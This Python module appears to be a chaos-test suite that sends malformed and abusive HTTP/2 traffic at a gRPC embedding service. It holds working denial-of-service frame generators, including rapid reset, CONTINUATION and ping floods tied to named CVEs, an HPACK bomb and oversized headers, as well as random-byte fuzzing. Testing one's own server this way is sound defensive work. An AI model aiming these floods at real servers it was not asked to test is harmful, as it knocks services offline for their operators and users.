"""HTTP/2 as nobody should write it: the bytes of each abuse, made from a seed."""

import random
import struct
from collections.abc import Callable, Iterator
from typing import TypeAlias

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from .fields import entry, unindexed

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/bothends.v1.EmbeddingService/Embed"
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PATH),
    (":authority", "chaos"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
Abuse: TypeAlias = Callable[[random.Random], Iterator[bytes]]
"""Bytes that are sent over one connection, piece by piece."""

FLOOD = 10_000


def message(content: bytes, *, flag: int = 0, length: int | None = None) -> bytes:
    """A gRPC message, whose prefix may lie about its length and compression."""
    return struct.pack(">BI", flag, len(content) if length is None else length) + content


def block(named: list[tuple[str, str]] = HEADERS) -> bytes:
    """A call's headers, with no help from earlier ones."""
    return bytes(Encoder().encode(named))


def headers(stream: int, content: bytes | None = None, *flags: str) -> bytes:
    """A HEADERS frame; END_HEADERS unless other flags are given."""
    return HeadersFrame(stream, content or block(), flags=flags or ["END_HEADERS"]).serialize()


def begun(*frames: Frame | bytes) -> bytes:
    """A connection that begins as it should, and these frames."""
    pieces = [frame if isinstance(frame, bytes) else frame.serialize() for frame in frames]
    return PREFACE + SettingsFrame(0).serialize() + b"".join(pieces)


def raw(kind: int, flags: int, stream: int, content: bytes, *, length: int | None = None) -> bytes:
    """Any frame, whose head may lie about its length."""
    size = len(content) if length is None else length
    return struct.pack(">I", size)[1:] + struct.pack(">BBI", kind, flags, stream) + content


def random_bytes(chance: random.Random) -> Iterator[bytes]:
    yield chance.randbytes(chance.randrange(1, 100_000))


def random_frames(chance: random.Random) -> Iterator[bytes]:
    yield begun()
    for _ in range(100):
        content = chance.randbytes(chance.choice([0, 1, 4, 5, 8, 100, 16_384]))
        yield raw(chance.randrange(12), chance.randrange(256), chance.choice([0, 1, 2, 3, 2**31 - 1]), content)


def flipped_call(chance: random.Random) -> Iterator[bytes]:
    """A good call in which a few bytes are others, or missing."""
    call = bytearray(begun(headers(1), DataFrame(1, message(b"\x0a\x05hello"), flags=["END_STREAM"])))
    for _ in range(chance.choice([1, 2, 8])):
        call[chance.randrange(len(PREFACE), len(call))] = chance.randrange(256)
    yield bytes(call[: chance.choice([len(call), chance.randrange(len(call))])])


def bad_preface(_: random.Random) -> Iterator[bytes]:
    yield PREFACE.replace(b"SM", b"MS") + SettingsFrame(0).serialize()


def http1(_: random.Random) -> Iterator[bytes]:
    yield b"POST " + PATH.encode() + b" HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello"


def tls(chance: random.Random) -> Iterator[bytes]:
    """A ClientHello's beginning, to a port that speaks none."""
    yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + chance.randbytes(508)


def torn_frame(_: random.Random) -> Iterator[bytes]:
    yield begun(raw(0, 0, 1, b"x" * 10, length=1000))


def oversize_frame(_chance: random.Random) -> Iterator[bytes]:
    yield begun(headers(1))
    yield raw(0, 0, 1, b"", length=2**24 - 1)
    for _ in range(256):
        yield bytes(1 << 16)


def bad_streams(chance: random.Random) -> Iterator[bytes]:
    """DATA before HEADERS, HEADERS on streams that clients may not open, and numbers that go down."""
    orders = [
        [DataFrame(1, b"x").serialize()],
        [raw(1, 4, 0, block())],
        [headers(2)],
        [headers(9), headers(3), headers(9)],
        [headers(2**31 - 1), headers(1)],
        [RstStreamFrame(5).serialize(), WindowUpdateFrame(7, window_increment=1).serialize()],
        [PushPromiseFrame(1, 2, block(), flags=["END_HEADERS"]).serialize()],
        [raw(2, 0, 1, struct.pack(">IB", 1, 0))],  # a stream that depends on itself
        [GoAwayFrame(0, additional_data=b"x" * 16_000).serialize(), headers(1)],
    ]
    yield begun(*chance.choice(orders))


def bad_windows(chance: random.Random) -> Iterator[bytes]:
    frames = [raw(8, 0, stream, struct.pack(">I", size)) for stream in (0, 1) for size in (0, 2**31 - 1)]
    settings = SettingsFrame(0, {4: 2**31 - 1, 5: 2**24 - 1, 6: 0, 1: chance.choice([0, 2**32 - 1])}).serialize()
    yield begun(headers(1), settings, *frames * 2)


def continuation_flood(_chance: random.Random) -> Iterator[bytes]:
    """A header block that never ends (CVE-2024-27316 and its like)."""
    yield begun(headers(1, block(), "END_STREAM"))
    filler = Encoder().encode([("x", "y" * 4000)])
    for _ in range(FLOOD // 2):
        yield ContinuationFrame(1, filler).serialize()


def empty_continuation_flood(_: random.Random) -> Iterator[bytes]:
    yield begun(headers(1, block(), "END_STREAM"))
    yield ContinuationFrame(1, b"").serialize() * FLOOD


def settings_flood(_: random.Random) -> Iterator[bytes]:
    yield begun()
    yield SettingsFrame(0, {4: 1}).serialize() * FLOOD


def ping_flood(_: random.Random) -> Iterator[bytes]:
    """Pings whose answers are never read (CVE-2019-9512)."""
    yield begun()
    yield PingFrame(0, b"12345678").serialize() * FLOOD


def rapid_reset(_: random.Random) -> Iterator[bytes]:
    """Calls opened and reset at once (CVE-2023-44487)."""
    yield begun()
    body = DataFrame(1, message(b"\x0a\x05hello"), flags=["END_STREAM"])
    for stream in range(1, 2 * FLOOD, 2):
        body.stream_id = stream
        yield headers(stream) + body.serialize() + RstStreamFrame(stream, error_code=8).serialize()


def empty_data_flood(_: random.Random) -> Iterator[bytes]:
    yield begun(headers(1))
    yield DataFrame(1, b"").serialize() * FLOOD


def priority_flood(_: random.Random) -> Iterator[bytes]:
    yield begun()
    for stream in range(1, 2 * FLOOD, 2):
        yield PriorityFrame(stream, depends_on=stream + 2).serialize()


def half_open_calls(_: random.Random) -> Iterator[bytes]:
    """Hundreds of calls whose requests never come."""
    yield begun()
    for stream in range(1, 601, 2):
        yield headers(stream)


def hpack_bomb(_: random.Random) -> Iterator[bytes]:
    """One large entry of the table, named again and again: a byte for each 4 KB."""
    kept = unindexed(HEADERS)  # what is indexed would push the entry out
    yield begun(headers(1, kept + entry(b"x" * 2000, b"y" * 2000)))
    for stream in range(3, 103, 2):
        yield headers(stream, kept + b"\xbe" * 15_000)


def huge_header(_chance: random.Random) -> Iterator[bytes]:
    """Sixteen megabytes of one value, in frames of the usual size."""
    yield begun(headers(1, block() + b"\x00\x01x" + b"\x7f" + b"\x81\xff\xff\x07", "END_STREAM"))
    for _ in range(1024):
        yield ContinuationFrame(1, b"y" * 16_384).serialize()


def bad_hpack(chance: random.Random) -> Iterator[bytes]:
    blocks = [
        b"\xff\xff\xff\xff\xff\xff\xff",
        b"\x80",
        b"\xc6",
        b"\x3f\xff\xff\xff\xff\x0f",
        b"\x40\x85\xff\xff\xff\xff\xff",
    ]
    yield begun(*(headers(stream, chance.choice(blocks) + chance.randbytes(20)) for stream in (1, 3, 5)))


def random_requests(chance: random.Random) -> Iterator[bytes]:
    """Well-formed calls whose requests are noise, some of it beginning as a request does."""
    yield begun()
    for stream in range(1, 101, 2):
        noise = chance.choice([b"", b"\x0a\x05hello"]) + chance.randbytes(chance.randrange(200))
        yield headers(stream) + DataFrame(stream, message(noise), flags=["END_STREAM"]).serialize()


ABUSES: list[Abuse] = [
    random_bytes,
    random_frames,
    flipped_call,
    bad_preface,
    http1,
    tls,
    torn_frame,
    oversize_frame,
    bad_streams,
    bad_windows,
    continuation_flood,
    empty_continuation_flood,
    settings_flood,
    ping_flood,
    rapid_reset,
    empty_data_flood,
    priority_flood,
    half_open_calls,
    hpack_bomb,
    huge_header,
    bad_hpack,
    random_requests,
]
